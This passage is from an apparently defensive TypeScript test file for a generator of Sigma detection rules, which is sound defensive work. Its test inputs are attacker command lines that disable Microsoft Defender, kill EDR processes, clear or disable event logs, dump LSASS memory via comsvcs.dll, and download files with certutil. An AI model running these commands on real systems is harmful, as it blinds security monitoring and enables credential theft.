    const fires = (value: string) => selfTestRule(rule, [{ type: 'cmdline', value: `powershell.exe -c "${value}"` }]).fires;
    // PowerShell binds a Boolean parameter from $true, 1 or `:$true`; a bare switch reads as true.
    expect(fires('Set-MpPreference -DisableRealtimeMonitoring $true')).toBe(true);
    expect(fires('set-mppreference -disableioavprotection 1')).toBe(true);
    expect(fires('Set-MpPreference -DisableBehaviorMonitoring:$TRUE')).toBe(true);
    expect(fires('Set-MpPreference -DisableScriptScanning -Force')).toBe(true);
    expect(fires('Set-MpPreference -DisableRealtimeMonitoring $false -DisableBlockAtFirstSeen $true')).toBe(true);
    // The look-alikes that turn the protection back on.
    expect(fires('Set-MpPreference -DisableRealtimeMonitoring $false')).toBe(false);
    expect(fires('Set-MpPreference -DisableIOAVProtection 0')).toBe(false);
    expect(fires('Set-MpPreference -DisableBehaviorMonitoring:$false')).toBe(false);
    expect(fires('Set-MpPreference -SignatureDisableUpdate $false')).toBe(false);
    expect(techniqueOf('powershell.exe', 'Set-MpPreference -DisableRealtimeMonitoring $false', 'windows')).toBeNull();
    expect(techniqueOf('powershell.exe', 'Set-MpPreference -DisableRealtimeMonitoring 0', 'windows')).toBeNull();
  });

  it('cuts a technique rule to the alternatives the commands showed, keeping its defining values', () => {
    const detectionOf = (...lines: string[]) =>
      generateBuiltinRules({ article, platform: 'windows', cmdlines: lines.map((value) => ({ ...item, value })) }).find(
        (draft) => draft.rule.title === 'Security Product Process Killed',
      )?.rule.detection;
    const one = detectionOf('taskkill /F /IM MsMpEng.exe');
    expect(JSON.stringify(one)).toContain('MsMpEng');
    expect(JSON.stringify(one)).not.toContain('CSFalconService');
    const two = JSON.stringify(detectionOf('taskkill /F /IM MsMpEng.exe', 'taskkill /F /IM CSFalconService.exe /T'));
    expect(two).toContain('MsMpEng');
    expect(two).toContain('CSFalconService');
    expect(two).not.toContain('SentinelAgent');
    // A list none of whose values a line shows, and a list required whole, stay as the table writes them.
    expect(shownAlternatives({ 'CommandLine|contains': ['a1', 'b2'] }, ['zz'])).toEqual({ 'CommandLine|contains': ['a1', 'b2'] });
    expect(shownAlternatives({ 'CommandLine|contains|all': ['a1', 'b2'] }, ['a1'])).toEqual({ 'CommandLine|contains|all': ['a1', 'b2'] });
    expect(shownAlternatives({ 'CommandLine|contains': ['a1', 'b2', 'c3'] }, ['x a1'], ['c3'])).toEqual({
      'CommandLine|contains': ['a1', 'c3'],
    });
  });

  it('keeps the other spellings of the option the command used: the next operator types the long form', () => {
    const detectionOf = (line: string, title: string) =>
      JSON.stringify(
        generateBuiltinRules({ article, platform: 'windows', cmdlines: [{ ...item, value: line }] }).find(
          (draft) => draft.rule.title === title,
        )?.rule.detection,
      );
    expect(detectionOf('wevtutil cl Setup', 'Event Log Cleared Via Wevtutil.EXE')).toContain(' clear-log ');
    const disabled = detectionOf('wevtutil sl Microsoft-Windows-Sysmon/Operational /e:false', 'Event Log Disabled Via Wevtutil.EXE');
    expect(disabled).toContain(' set-log ');
    expect(disabled).toContain('-enabled:false');
    expect(detectionOf('winrs -r:srv02 whoami', 'Command Run On A Remote Host Via Winrs.EXE')).toContain('-remote:');
  });

  it('needs the program and the pattern on the platform the table names', () => {
    expect(techniqueOf('certutil.exe', 'certutil -hashfile a.exe SHA256', 'windows')).toBeNull();
    expect(techniqueOf('notcertutil.exe', 'notcertutil -urlcache -f http://x', 'windows')).toBeNull();
    expect(techniqueOf('xattr', 'xattr -c /tmp/a.app', 'linux')).toBeNull();
    expect(techniqueOf('xattr', 'xattr -l /tmp/a.app', 'macos')).toBeNull();
    expect(techniqueOf('rundll32.exe', 'rundll32 C:\\x\\comsvcs.dll,MiniDump 1 a full', 'windows')?.id).toBe('lsass-dump-comsvcs');
  });

  it('matches CommandLine selections as Sigma does: case-insensitive, windash spellings, all or any', () => {
    expect(meetsSelection({ 'CommandLine|contains|windash': '-urlcache' }, 'CERTUTIL /URLCACHE')).toBe(true);
    expect(meetsSelection({ 'CommandLine|contains|all': ['usn', 'deletejournal'] }, 'fsutil usn query')).toBe(false);
    expect(meetsSelection({ 'CommandLine|contains': ['a1', 'b2'] }, 'x b2')).toBe(true);
    expect(meetsSelection({ 'Image|endswith': '\\x.exe' }, 'x')).toBe(false);
    expect(meetsSelection({ 'CommandLine|re|i': '-disable\\w+ \\$true' }, 'Set-MpPreference -DisableIOAVProtection $TRUE')).toBe(true);
    expect(meetsSelection({ 'CommandLine|re': '-disable\\w+ \\$true' }, 'Set-MpPreference -DisableIOAVProtection $TRUE')).toBe(false);
  });

  it('backs the other spellings of a technique the text shows, and nothing else', () => {
    const known = knownSpellings('The actor ran rundll32 comsvcs.dll, MiniDump against LSASS.');
    expect(known.has('#24')).toBe(true);
    expect(known.has('-urlcache')).toBe(false);
    expect(knownSpellings('Dumping memory is common.').size).toBe(0);
  });
});
